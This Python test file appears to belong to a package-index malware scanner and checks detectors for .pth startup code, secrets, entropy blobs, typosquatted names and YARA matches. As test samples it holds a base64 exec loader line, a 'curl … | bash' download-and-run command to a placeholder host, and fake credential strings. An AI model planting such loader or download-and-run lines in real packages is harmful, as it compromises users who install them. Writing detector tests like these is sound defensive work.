""".pth files, entropy, secrets, file names, project names, YARA."""

from __future__ import annotations

import base64
import dataclasses
import os

from warehouse.scanning.analyzers import content, files, metadata


def rules_in(findings):
    return {f.rule for f in findings}


def test_pth_import_lines_run_code_and_are_analyzed(rules):
    benign = b"/opt/site-packages/extra\n../lib\n"
    assert content.analyze_pth(benign, "x.pth", rules) == []
    shim = b"import _distutils_hack; _distutils_hack.add_shim()\n"
    assert rules_in(content.analyze_pth(shim, "d.pth", rules)) == {"pth-exec"}
    loader = b"path\nimport base64; exec(base64.b64decode('eA=='))\n"
    found = content.analyze_pth(loader, "evil.pth", rules)
    assert {"pth-exec", "py-exec-decoded", "py-startup-code"} <= rules_in(found)
    assert {f.location.line for f in found} == {2}


def test_entropy_flags_long_random_literals_only(rules):
    random_blob = base64.b64encode(os.urandom(2000)).decode()
    found = content.analyze_entropy(f'BLOB = "{random_blob}"\n'.encode(), "m.py", rules)
    assert rules_in(found) == {"entropy-blob"}
    assert content.analyze_entropy(("A" * 4000).encode(), "m.py", rules) == []
    assert content.analyze_entropy(b"short = 'abc'\n", "m.py", rules) == []


def test_secrets(rules):
    pypi = b"token = 'pypi-AgEIcHlwaS5vcmc" + b"x" * 70 + b"'"
    github = b"GH = 'ghp_" + b"a1B2" * 9 + b"'"
    aws = b"key = 'AKIAZ7Q3LKJHGFDSAQWE'"
    key = b"-----BEGIN RSA PRIVATE KEY-----\n" + b"MIIE" * 30 + b"\n-----END RSA PRIVATE KEY-----"
    assert rules_in(content.analyze_secrets(pypi, "a.py", rules)) == {"secret-pypi-token"}
    assert rules_in(content.analyze_secrets(github, "a.py", rules)) == {"secret-github-token"}
    assert rules_in(content.analyze_secrets(aws, "a.py", rules)) == {"secret-aws-key"}
    assert rules_in(content.analyze_secrets(key, "conf/key.pem", rules)) == {"secret-private-key"}
    # Placeholders and test fixtures are not leaks.
    assert content.analyze_secrets(b"AKIAIOSFODNN7EXAMPLE", "a.py", rules) == []
    assert content.analyze_secrets(key, "pkg/tests/test_rsa.py", rules) == []
    assert content.analyze_secrets(b"-----BEGIN PRIVATE KEY-----", "a.py", rules) == []
    line = content.analyze_secrets(b"\n\n" + aws, "a.py", rules)[0].location.line
    assert line == 3


def test_secret_hints_are_found_in_one_pass_or_hint_by_hint_alike(rules):
    data = b"x = 'ghp_abc' # AKIA\n-----BEGIN RSA PRIVATE KEY-----\n"
    hinted = [rule_id for rule_id, _ in rules.hinted_secrets(data)]
    assert hinted == ["secret-github-token", "secret-aws-key", "secret-private-key"]
    assert rules.hinted_secrets(b"nothing to see") == []
    slow = dataclasses.replace(rules)  # a fresh copy: its scanner is cached apart
    slow.__dict__["_secret_hint_scanner"] = None  # no YARA: one test per hint
    assert [rule_id for rule_id, _ in slow.hinted_secrets(data)] == hinted


def test_sensitive_file_names_and_compiled_code(rules):
    assert rules_in(files.analyze_name("p-1.0/.pypirc", "p", rules)) == {"sensitive-file"}
    assert rules_in(files.analyze_name("p-1.0/deploy/id_rsa", "p", rules)) == {"sensitive-file"}
    assert rules_in(files.analyze_name("p-1.0/.env", "p", rules)) == {"sensitive-file"}
    assert files.analyze_name("p-1.0/tests/.env", "p", rules) == []
    assert files.analyze_name("p-1.0/setup.py", "p", rules) == []
    assert files.is_binary("p/x.pyc", b"", rules)
    assert files.is_binary("p/helper", b"\x7fELF\x02", rules)
    assert not files.is_binary("p/readme.txt", b"MZ", rules)


def test_project_names(rules):
    assert rules_in(metadata.analyze_project_name("reqeusts", rules)) == {"typosquat"}
    assert rules_in(metadata.analyze_project_name("urlib3", rules)) == {"typosquat"}
    assert rules_in(metadata.analyze_project_name("python-requests", rules)) == {"typosquat"}
    assert metadata.analyze_project_name("Requests", rules) == []
    assert metadata.analyze_project_name("requests", rules) == []
    assert metadata.analyze_project_name("my-own-library", rules) == []
    assert rules_in(metadata.analyze_project_name("asyncio", rules)) == {"name-shadows-stdlib"}
    assert metadata.within_one_edit("colorama", "colourama")
    assert metadata.within_one_edit("requests", "reqeusts")
    assert not metadata.within_one_edit("requests", "rqeuestss")


def test_yara_rules_compile_and_match_non_python_content(rules):
    found = content.analyze_yara(
        b"#!/bin/sh\necho hi\ncurl -s https://example.invalid/x | bash\n", "x.sh", rules
    )
    assert [f.rule for f in found] == ["yara"]
    assert "shell_download_and_run" in found[0].message
    assert found[0].location.line == 3
    assert content.analyze_yara(b"#!/bin/sh\nmake install\n", "x.sh", rules) == []
